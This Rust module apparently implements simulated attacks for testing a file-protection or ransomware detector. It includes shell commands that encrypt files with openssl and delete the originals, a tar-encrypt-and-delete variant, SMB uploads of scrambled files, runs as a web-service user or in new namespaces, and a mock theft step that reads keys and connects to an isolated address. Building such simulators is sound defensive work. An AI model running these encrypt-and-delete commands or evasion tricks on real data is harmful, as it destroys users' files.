//! Attacks of several processes, and with tools that the host has.

use crate::Result;
use crate::confine::Folder;
use crate::kinds::scramble_in_place;
use crate::stream::scramble;
use std::fs;
use std::io::Error;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::Command;

pub fn ok(status: std::process::ExitStatus) -> Result {
    if status.success() { Ok(()) } else { Err(Error::other(format!("a part of it ended with {status}"))) }
}

/// A process a file, four at a time.
pub fn multi_process(folder: &Folder) -> Result {
    let me = std::env::current_exe()?;
    for group in folder.files()?.chunks(4) {
        let start = |path| Command::new(&me).arg("one-file").arg(&folder.root).arg(path).spawn();
        let children: Vec<_> = group.iter().map(start).collect::<Result<_>>()?;
        for mut child in children {
            ok(child.wait()?)?;
        }
    }
    Ok(())
}

pub fn one_file(folder: &Folder) -> Result {
    scramble_in_place(&the_one(folder)?)
}

/// The file that this process is for.
pub fn the_one(folder: &Folder) -> Result<PathBuf> {
    let path = std::env::args().nth(3).ok_or_else(|| Error::other("which file?"))?;
    folder.below(Path::new(&path))
}

pub fn script_openssl(folder: &Folder) -> Result {
    folder.files()?;
    let script = "find . -type f ! -name .tamon-attack-sim | while read -r f; do \
                  openssl enc -aes-256-ctr -pbkdf2 -iter 1 -pass pass:test -in \"$f\" -out \"$f.enc\" && rm \"$f\"; done";
    ok(Command::new("sh").args(["-c", script]).current_dir(&folder.root).status()?)
}

/// In namespaces of its own, as a container's process is.
pub fn container(folder: &Folder) -> Result {
    let me = std::env::current_exe()?;
    let mut command = Command::new(me);
    command.arg("in-place").arg(&folder.root);
    // SAFETY: between fork and exec only system calls are made.
    unsafe {
        command.pre_exec(|| {
            let flags = libc::CLONE_NEWNS | libc::CLONE_NEWUTS | libc::CLONE_NEWIPC | libc::CLONE_NEWCGROUP;
            if libc::unshare(flags) == 0 { Ok(()) } else { Err(Error::last_os_error()) }
        });
    }
    ok(command.status()?)
}

/// Through the share that the harness serves from this folder (`TAMON_SIM_SHARE`: host, port and share for smbclient).
pub fn smb(folder: &Folder) -> Result {
    let share = std::env::var("TAMON_SIM_SHARE").map_err(Error::other)?;
    let port = std::env::var("TAMON_SIM_PORT").map_err(Error::other)?;
    let staging = std::env::var("TAMON_SIM_STAGING").map_err(Error::other)?;
    let mut script = String::new();
    for (n, path) in folder.files()?.iter().enumerate() {
        let below = path.strip_prefix(&folder.root).map_err(Error::other)?.display().to_string();
        let local = format!("{staging}/{n}");
        let mut bytes = fs::read(path)?;
        scramble(&mut bytes, 7);
        fs::write(&local, bytes)?;
        script.push_str(&format!("put {local} \"{}\";", below.replace('/', "\\")));
    }
    let mut client = Command::new("smbclient");
    ok(client.args([&share, "-p", &port, "-N", "-c", &script]).status()?)
}

pub fn tar_encrypt(folder: &Folder) -> Result {
    folder.files()?;
    let script = "tar cf - --exclude .tamon-attack-sim . | openssl enc -aes-256-ctr -pbkdf2 -iter 1 -pass pass:test -out ../all.bin.part && \
                  mv ../all.bin.part ./all.bin && find . -type f ! -name .tamon-attack-sim ! -name all.bin -delete";
    ok(Command::new("sh").args(["-c", script]).current_dir(&folder.root).status()?)
}

/// As the user that a web service runs as.
pub fn service_user(folder: &Folder) -> Result {
    let me = std::env::current_exe()?;
    ok(Command::new(me).arg("in-place").arg(&folder.root).uid(33).gid(33).status()?)
}

/// A tool that the policy trusts writes what we made ready.
pub fn trusted_tool(folder: &Folder) -> Result {
    let staging = std::env::var("TAMON_SIM_STAGING").map_err(Error::other)?;
    for (n, path) in folder.files()?.iter().enumerate() {
        let ready = format!("{staging}/{n}");
        let mut bytes = fs::read(path)?;
        scramble(&mut bytes, 8);
        fs::write(&ready, bytes)?;
        ok(Command::new("cp").arg("--no-preserve=all").arg(&ready).arg(folder.below(path)?).status()?)?;
    }
    Ok(())
}

/// Reads keys and dumps, then opens a connection to an address in a network of its own, where nobody else is.
pub fn theft(folder: &Folder) -> Result {
    for path in folder.files()? {
        fs::read(folder.below(&path)?)?;
    }
    // SAFETY: this process alone goes to a network of its own.
    if unsafe { libc::unshare(libc::CLONE_NEWNET) } != 0 {
        return Err(Error::last_os_error());
    }
    for line in ["link set lo up", "addr add 198.51.100.1/24 dev lo"] {
        ok(Command::new("ip").args(line.split(' ')).status()?)?;
    }
    let listener = std::net::TcpListener::bind("198.51.100.1:443")?;
    std::net::TcpStream::connect(listener.local_addr()?)?;
    Ok(())
}
